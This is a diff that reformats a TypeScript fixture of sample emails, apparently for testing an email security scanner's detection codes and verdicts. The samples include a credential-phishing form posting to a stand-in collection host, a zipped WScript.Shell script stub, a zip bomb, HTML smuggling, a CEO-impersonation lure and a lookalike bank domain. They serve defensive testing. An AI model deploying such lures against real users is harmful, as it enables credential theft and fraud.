@@ -27,7 +27,11 @@ export function buildSamples(): Sample[] {
     {
       name: 'clean',
       about: 'an ordinary message between colleagues',
-      raw: buildMessage({ from: 'Sam <sam@northwind.com>', subject: 'Lunch', text: 'Shall we meet at noon by the fountain?' }),
+      raw: buildMessage({
+        from: 'Sam <sam@northwind.com>',
+        subject: 'Lunch',
+        text: 'Shall we meet at noon by the fountain?',
+      }),
       codes: [],
       action: 'allow',
     },
@@ -69,7 +73,13 @@ export function buildSamples(): Sample[] {
         from: outsider,
         subject: 'Scanned documents',
         text: 'Scans attached.',
-        attachments: [{ filename: 'scans.zip', contentType: 'application/zip', content: buildZip([{ name: 'scan_0412.js', data: 'var s=new ActiveXObject("WScript.Shell");' }]) }],
+        attachments: [
+          {
+            filename: 'scans.zip',
+            contentType: 'application/zip',
+            content: buildZip([{ name: 'scan_0412.js', data: 'var s=new ActiveXObject("WScript.Shell");' }]),
+          },
+        ],
       }),
       codes: ['ATTACH_SCRIPT'],
       action: 'quarantine',
@@ -129,7 +139,9 @@ export function buildSamples(): Sample[] {
         from: outsider,
         subject: 'Archive',
         text: 'See archive.',
-        attachments: [{ filename: 'data.zip', content: buildZip([{ name: 'zeros.bin', data: Buffer.alloc(50 * 1024 * 1024) }]) }],
+        attachments: [
+          { filename: 'data.zip', content: buildZip([{ name: 'zeros.bin', data: Buffer.alloc(50 * 1024 * 1024) }]) },
+        ],
       }),
       codes: ['ATTACH_ARCHIVE_BOMB'],
       action: 'quarantine',
@@ -153,7 +165,12 @@ export function buildSamples(): Sample[] {
         from: outsider,
         subject: 'Secure invoice',
         text: 'Password: 4471',
-        attachments: [{ filename: 'invoice.zip', content: buildZip([{ name: 'invoice.pdf', data: 'x'.repeat(2000), encrypted: true }]) }],
+        attachments: [
+          {
+            filename: 'invoice.zip',
+            content: buildZip([{ name: 'invoice.pdf', data: 'x'.repeat(2000), encrypted: true }]),
+          },
+        ],
       }),
       codes: ['ATTACH_ARCHIVE_ENCRYPTED'],
       action: 'allow',
@@ -165,7 +182,13 @@ export function buildSamples(): Sample[] {
         from: outsider,
         subject: 'Voicemail',
         text: 'You have a new voicemail.',
-        attachments: [{ filename: 'voicemail.html', contentType: 'text/html', content: '<html><body><p>Play message</p></body></html>' }],
+        attachments: [
+          {
+            filename: 'voicemail.html',
+            contentType: 'text/html',
+            content: '<html><body><p>Play message</p></body></html>',
+          },
+        ],
       }),
       codes: ['ATTACH_HTML'],
       action: 'allow',
@@ -177,7 +200,9 @@ export function buildSamples(): Sample[] {
         from: outsider,
         subject: 'Remittance',
         text: 'Open the attached remittance advice.',
-        attachments: [{ filename: 'remittance.html', contentType: 'text/html', content: smugglingPage(base64Blob(20_000)) }],
+        attachments: [
+          { filename: 'remittance.html', contentType: 'text/html', content: smugglingPage(base64Blob(20_000)) },
+        ],
       }),
       codes: ['HTML_SMUGGLING', 'ATTACH_HTML'],
       action: 'quarantine',
@@ -207,7 +232,7 @@ export function buildSamples(): Sample[] {
           '<form action="https://mail-quota.example.net/collect" method="post">' +
           '<input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form>',
       }),
-      codes: ['HTML_FORM_EXTERNAL'],
+      codes: ['HTML_FORM_CREDENTIALS'],
       action: 'flag',
     },
     {
@@ -235,7 +260,11 @@ export function buildSamples(): Sample[] {
     {
       name: 'imp-protected-person',
       about: "a protected person's name from an outside address",
-      raw: buildMessage({ from: 'Jane Doe <jane.doe.ceo@gmail.com>', subject: 'Are you at your desk?', text: 'I need a favour.' }),
+      raw: buildMessage({
+        from: 'Jane Doe <jane.doe.ceo@gmail.com>',
+        subject: 'Are you at your desk?',
+        text: 'I need a favour.',
+      }),
       codes: ['IMPERSONATION_PROTECTED_PERSON'],
       action: 'flag',
     },
@@ -254,7 +283,11 @@ export function buildSamples(): Sample[] {
     {
       name: 'imp-lookalike-domain',
       about: "a sender domain imitating the organization's bank",
-      raw: buildMessage({ from: 'Security <security@contoso-bamk.com>', subject: 'Verify', text: 'Verify your account.' }),
+      raw: buildMessage({
+        from: 'Security <security@contoso-bamk.com>',
+        subject: 'Verify',
+        text: 'Verify your account.',
+      }),
       codes: ['IMPERSONATION_LOOKALIKE_DOMAIN'],
       action: 'flag',
     },
@@ -297,8 +330,7 @@ export function buildSamples(): Sample[] {
       raw: buildMessage({
         from: outsider,
         subject: 'Shared file',
-        text:
-          'Open: https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2F198.51.100.7%2Ffile&data=05%7C01&reserved=0',
+        text: 'Open: https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2F198.51.100.7%2Ffile&data=05%7C01&reserved=0',
       }),
       codes: ['LINK_REWRITTEN', 'LINK_IP_HOST'],
       action: 'allow',
